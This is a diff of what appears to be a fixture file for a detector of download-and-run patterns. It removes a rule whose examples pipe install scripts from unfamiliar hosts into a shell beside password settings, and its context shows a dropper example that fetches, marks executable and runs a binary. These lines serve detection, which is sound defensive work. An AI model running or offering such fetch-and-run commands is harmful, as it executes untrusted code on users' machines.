@@ -116,17 +116,6 @@ export const downloadAndRun: readonly RuleExamples[] = [
     ],
   },
   {
-    rule: "password-beside-unknown-code",
-    malicious: [
-      code('curl -sSL https://notes-life.dev/install.sh | bash\nnotes-env set SHOP_PASSWORD "your-password"'),
-      `First:\n\n${code("curl -sSL https://notes-life.dev/i.sh | sh")}\n\nThen:\n\n${code("export MAIL_PASSWORD=your_password")}`,
-    ],
-    nearMiss: [
-      code("export DB_PASSWORD=your_password\nnpm run migrate"),
-      `${code("curl -LsSf https://astral.sh/uv/install.sh | sh")}\n\n${code("export DB_PASSWORD=your_password")}`,
-    ],
-  },
-  {
     rule: "dropper",
     malicious: [
       { "scripts/get.sh": "wget https://dl.kit-tools.dev/agent -O agent\nchmod +x agent\n./agent\n" },
